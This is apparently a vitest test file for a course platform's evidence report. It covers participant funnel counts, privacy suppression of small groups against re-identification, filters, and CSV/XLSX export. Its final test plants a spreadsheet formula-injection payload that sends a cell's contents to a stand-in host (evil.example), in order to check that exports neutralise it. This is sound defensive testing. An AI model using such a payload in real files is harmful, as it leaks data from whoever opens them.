// The evidence report (issue 17) on a real database: the funnel, knowledge before and after, the
// practices and business indicators per group, with suppression applied, and the filters.
import ExcelJS from 'exceljs';
import Papa from 'papaparse';
import { describe, expect, it } from 'vitest';
import { reportCsv, reportXlsx } from '../../src/lib/server/evidence/export';
import { reportView } from '../../src/lib/server/evidence/view';
import { classOptions } from '../../src/lib/server/evidence/filters';
import { widenSmallComplements } from '../../src/lib/server/evidence/narrowing';
import type { Db } from '../../src/lib/server/db';
import { addMember, createCohort, removeMember } from '../../src/lib/server/classes/cohorts';
import { evidenceReport, type EvidenceReport } from '../../src/lib/server/evidence/report';
import type { EvidenceFilter } from '../../src/lib/server/evidence/population';
import type { Survey } from '../../src/lib/server/evidence/types';
import { enrol, markLessonDone } from '../../src/lib/server/learning/progress';
import { completeCourse, fixtureCourse, newDb, newUser } from './helpers';

const course = fixtureCourse();
const survey: Survey = {
	courseId: course.id,
	title: 'Encuesta',
	intro: '',
	file: 'survey.md',
	questions: [
		{
			id: 'ventas',
			text: '¿Anotas tus ventas y gastos?',
			indicator: null,
			line: 1,
			options: [
				{ id: 'si', text: 'Sí', practice: true },
				{ id: 'no', text: 'No', practice: false }
			]
		},
		{
			id: 'negocio',
			text: '¿Tienes un negocio?',
			indicator: 'negocio-iniciado',
			line: 5,
			options: [
				{ id: 'si', text: 'Sí', practice: true },
				{ id: 'no', text: 'No', practice: false }
			]
		}
	]
};

let n = 0;
async function answer(db: Db, userId: string, wave: string, doing: boolean) {
	const id = `r${++n}`;
	await db
		.insertInto('survey_responses')
		.values({
			id,
			user_id: userId,
			course_id: course.id,
			wave,
			answered_at: '2026-11-10T10:00:00Z'
		})
		.execute();
	await db
		.insertInto('survey_answers')
		.values([
			{
				response_id: id,
				question_id: 'ventas',
				option_id: doing ? 'si' : 'no',
				is_practice: doing ? 1 : 0
			},
			{ response_id: id, question_id: 'negocio', option_id: 'si', is_practice: 1 }
		])
		.execute();
}

interface Person {
	gender: string | null | 'none';
	completes: boolean;
	recordsSales: [boolean, boolean];
	pre: number;
}

/**
 * 26 participants: 12 mujeres (10 finish), 3 hombres, 6 "Prefiero no decir", 5 without a profile.
 * Everyone takes the pre check; each answers the survey at enrolment and at the end.
 */
async function world() {
	const db = await newDb();
	const facilitator = await newUser(db, 'facilitator');
	const cohort = await createCohort(db, facilitator.id, {
		courseId: course.id,
		name: 'Clase',
		place: null,
		startsOn: '2026-11-02',
		endsOn: '2026-11-30'
	});
	const people: Person[] = [
		...Array.from({ length: 12 }, (_, i) => ({
			gender: 'mujer',
			completes: i < 10,
			recordsSales: [i < 3, i < 9] as [boolean, boolean],
			pre: 40
		})),
		...Array.from({ length: 3 }, () => ({
			gender: 'hombre',
			completes: false,
			recordsSales: [false, true] as [boolean, boolean],
			pre: 80
		})),
		...Array.from({ length: 6 }, (_, i) => ({
			gender: null,
			completes: false,
			recordsSales: [i < 1, i < 5] as [boolean, boolean],
			pre: 60
		})),
		...Array.from({ length: 5 }, () => ({
			gender: 'none' as const,
			completes: false,
			recordsSales: [false, false] as [boolean, boolean],
			pre: 60
		}))
	];
	const ids: string[] = [];
	for (const p of people) {
		const user = await newUser(db);
		ids.push(user.id);
		await enrol(db, user.id, course.id, new Date('2026-11-05T12:00:00Z'));
		await addMember(db, cohort, user.id, facilitator.id, 'code');
		if (p.gender !== 'none') {
			await db
				.insertInto('participant_profiles')
				.values({
					user_id: user.id,
					consented_at: '2026-11-05T12:00:00Z',
					recorded_by: null,
					gender: p.gender,
					age_band: '25-34',
					province: 'guayas',
					born_abroad: 1,
					runs_business: null,
					business_kind: null,
					business_people: null,
					updated_at: '2026-11-05T12:00:00Z'
				})
				.execute();
		}
		await db
			.insertInto('knowledge_checks')
			.values({
				user_id: user.id,
				course_id: course.id,
				score: p.pre,
				passed: p.pre >= course.passScore ? 1 : 0,
				answered_at: '2026-11-05T12:00:00Z'
			})
			.execute();
		if (p.completes) await completeCourse(db, course, user.id);
		else
			await markLessonDone(db, {
				userId: user.id,
				courseId: course.id,
				lessonId: course.lessons[0].id
			});
		await answer(db, user.id, 'inicio', p.recordsSales[0]);
		await answer(db, user.id, 'final', p.recordsSales[1]);
	}
	return { db, cohort, ids };
}

const everyone = (extra: Partial<EvidenceFilter> = {}): EvidenceFilter => ({
	courseId: course.id,
	classId: null,
	cohort: null,
	from: null,
	to: null,
	...extra
});

/** A table's line as text per group: the number, "menos de 5" or "oculto". */
function read(report: EvidenceReport, dimension: string, id: string, wave?: string) {
	const table = report.tables.find((t) => t.dimension === dimension)!;
	const line = table.lines.find(
		(l) =>
			l.id === id &&
			(wave === undefined || l.wave === wave) &&
			(l.kind !== 'count' || id !== 'question')
	)!;
	const groups = ['total', ...table.groups];
	return Object.fromEntries(
		line.cells.map((c, i) => [
			groups[i],
			c.state === 'shown' ? (c.mean ?? c.percent ?? c.count) : c.state
		])
	);
}

describe('evidence report', () => {
	it('counts, splits by gender side by side, and hides what subtraction would give back', async () => {
		const { db } = await world();
		const report = await evidenceReport(db, course, survey, everyone());
		expect(report.people).toBe(26);
		const gender = report.tables.find((t) => t.dimension === 'gender')!;
		expect(gender.groups).toEqual(['mujer', 'hombre', 'otro', 'no-dice', 'sin-perfil']);
		// 3 hombres: "menos de 5"; the next-smallest group (5 without a profile) is hidden so that
		// 26 − 12 − 6 does not give 3.
		expect(read(report, 'gender', 'enrolled')).toEqual({
			total: 26,
			mujer: 12,
			hombre: 'small',
			otro: 0,
			'no-dice': 6,
			'sin-perfil': 'hidden'
		});
		// Shares: started is everyone; completed 10 of 26 overall, 10 of 12 women.
		expect(read(report, 'gender', 'started')).toEqual({
			total: 100,
			mujer: 100,
			hombre: 'small',
			otro: 0,
			'no-dice': 100,
			'sin-perfil': 'hidden'
		});
		// Completed: 10 overall, all of them women. Shown, "10 mujeres" would tell that none of the
		// fewer-than-5 hombres finished (10 − 10 − 0 = 0), so the women's figure is hidden too.
		expect(read(report, 'gender', 'completed')).toEqual({
			total: 38,
			mujer: 'hidden',
			hombre: 'small',
			otro: 0,
			'no-dice': 0,
			'sin-perfil': 'small'
		});
		// Knowledge: mean before (pre check) and after (module quizzes, only those who took them).
		expect(read(report, 'gender', 'beforeMean')).toMatchObject({ mujer: 40, 'no-dice': 60 });
		const after = read(report, 'gender', 'afterMean');
		expect(after.total).toBe(100);
		expect(after.mujer).toBe('hidden');
		// Practices: 3 of 12 women recorded their sales at the start ("menos de 5"), 9 at the end.
		expect(read(report, 'gender', 'question', 'inicio')).toMatchObject({
			mujer: 'small',
			hombre: 'small'
		});
		expect(read(report, 'gender', 'question', 'final')).toMatchObject({ mujer: 75 });
		// Every row of every table: no single hidden cell can be rebuilt from the total.
		for (const table of report.tables) {
			for (const line of table.lines) {
				const hidden = line.cells.slice(1).filter((c) => c.state !== 'shown');
				if (line.cells[0].state === 'shown')
					expect(hidden.length === 0 || hidden.length >= 2).toBe(true);
			}
		}
		// Born abroad: everyone with a profile said yes (21); the 5 without one are a group of 5.
		expect(read(report, 'bornAbroad', 'enrolled')).toEqual({
			total: 26,
			si: 21,
			no: 0,
			'no-dice': 0,
			'sin-perfil': 5
		});
		const business = report.tables[0].lines.filter((l) => l.section === 'business');
		expect(business.map((l) => l.wave)).toEqual(['inicio', 'final', 'seguimiento']);
		expect(business[0].cells[0]).toMatchObject({ state: 'shown', count: 26, percent: 100 });
	});

	it('filters by class, cohort month and enrolment dates', async () => {
		const { db, cohort } = await world();
		const byClass = await evidenceReport(db, course, survey, everyone({ classId: cohort.id }));
		expect(byClass.people).toBe(26);
		expect((await evidenceReport(db, course, survey, everyone({ classId: 'otra' }))).people).toBe(
			0
		);
		expect((await evidenceReport(db, course, survey, everyone({ cohort: '2026-11' }))).people).toBe(
			26
		);
		expect((await evidenceReport(db, course, survey, everyone({ cohort: '2026-12' }))).people).toBe(
			0
		);
		const inRange = everyone({ from: '2026-11-05', to: '2026-11-05' });
		expect((await evidenceReport(db, course, survey, inRange)).people).toBe(26);
		const after = everyone({ from: '2026-11-06', to: null });
		const empty = await evidenceReport(db, course, survey, after);
		expect(empty.people).toBe(0);
		expect(empty.tables[0].lines[0].cells[0].state).toBe('shown');
		expect(empty.tables[0].lines[0].cells[0].count).toBe(0);
	});

	it('a facilitator who takes someone out of the class sees the same figures as before', async () => {
		const { db, cohort, ids } = await world();
		const byClass = everyone({ classId: cohort.id });
		const before = await evidenceReport(db, course, survey, byClass);
		// The only people whose removal could be read off: one hombre, then one woman who finished.
		expect(await removeMember(db, cohort, ids[12])).toBe(true);
		expect(await removeMember(db, cohort, ids[0])).toBe(true);
		expect(await evidenceReport(db, course, survey, byClass)).toEqual(before);
		// A second class in the same month with 2 people: comparing the month with the first class
		// would give those 2 away, so the class view is widened to the month.
		const other = await createCohort(db, ids[0], {
			courseId: course.id,
			name: 'Otra',
			place: null,
			startsOn: '2026-11-20',
			endsOn: '2026-11-30'
		});
		for (let n = 0; n < 2; n++) {
			const user = await newUser(db);
			await enrol(db, user.id, course.id, new Date('2026-11-21T12:00:00Z'));
			await addMember(db, other, user.id, null, 'code');
		}
		const classes = await classOptions(db);
		const narrowed = await widenSmallComplements(db, byClass, classes);
		expect(narrowed).toEqual({
			widened: true,
			filter: { ...byClass, classId: null, cohort: '2026-11' }
		});
		const month = { ...byClass, classId: null, cohort: '2026-11' };
		expect(await widenSmallComplements(db, month, classes)).toEqual({
			widened: false,
			filter: month
		});

		// Taken out and put back: counted once.
		await addMember(db, cohort, ids[0], null, 'code');
		expect((await evidenceReport(db, course, survey, byClass)).people).toBe(26);
	});

	it('exports the suppressed groups only, as CSV and XLSX, and says what it hides', async () => {
		const { db } = await world();
		const view = reportView(await evidenceReport(db, course, survey, everyone()));
		const rows = Papa.parse<string[]>(reportCsv(view).replace(/^\uFEFF/, '')).data;
		expect(rows[0].slice(0, 6)).toEqual([
			'Dimensión',
			'Grupo',
			'Tema',
			'Cifra',
			'Momento',
			'Personas'
		]);
		const enrolled = (group: string) =>
			rows.find((r) => r[0] === 'Por género' && r[1] === group && r[3] === 'Inscritos')?.[5];
		expect(enrolled('Mujer')).toBe('12');
		expect(enrolled('Hombre')).toBe('menos de 5');
		expect(enrolled('Sin perfil')).toBe('oculto');
		// The Total column once, not once per dimension.
		expect(rows.filter((r) => r[0] === 'Total' && r[3] === 'Inscritos')).toHaveLength(1);

		const book = new ExcelJS.Workbook();
		await book.xlsx.load(
			(await reportXlsx(view, ['Curso de prueba'])).buffer as unknown as ArrayBuffer
		);
		const sheet = book.getWorksheet('Evidencia')!;
		const cells = sheet.getSheetValues().slice(2) as unknown[][];
		const hombre = cells.find(
			(r) => r[1] === 'Por género' && r[2] === 'Hombre' && r[4] === 'Inscritos'
		)!;
		expect(hombre[6]).toBe('menos de 5');
		const mujer = cells.find(
			(r) => r[1] === 'Por género' && r[2] === 'Mujer' && r[4] === 'Inscritos'
		)!;
		expect(mujer[6]).toBe(12);
		expect(book.getWorksheet('Notas')!.getCell('A1').value).toBe('Curso de prueba');
	});

	it("never exports an author's text as a spreadsheet formula", async () => {
		const { db } = await world();
		const view = reportView(await evidenceReport(db, course, survey, everyone()));
		const payload = '=HYPERLINK("https://evil.example/?"&A1,"Ver")';
		const line = view.tables[0].sections.flatMap((s) => s.lines).find((l) => l.kind === 'share')!;
		line.label = payload;
		line.name = payload;
		const csv = reportCsv(view);
		expect(csv).not.toMatch(/(^|[\r\n,])"?=HYPERLINK/);
		const rows = Papa.parse<string[]>(csv.replace(/^\uFEFF/, '')).data;
		expect(rows.some((r) => r.includes(`'${payload}`))).toBe(true);
	});
});
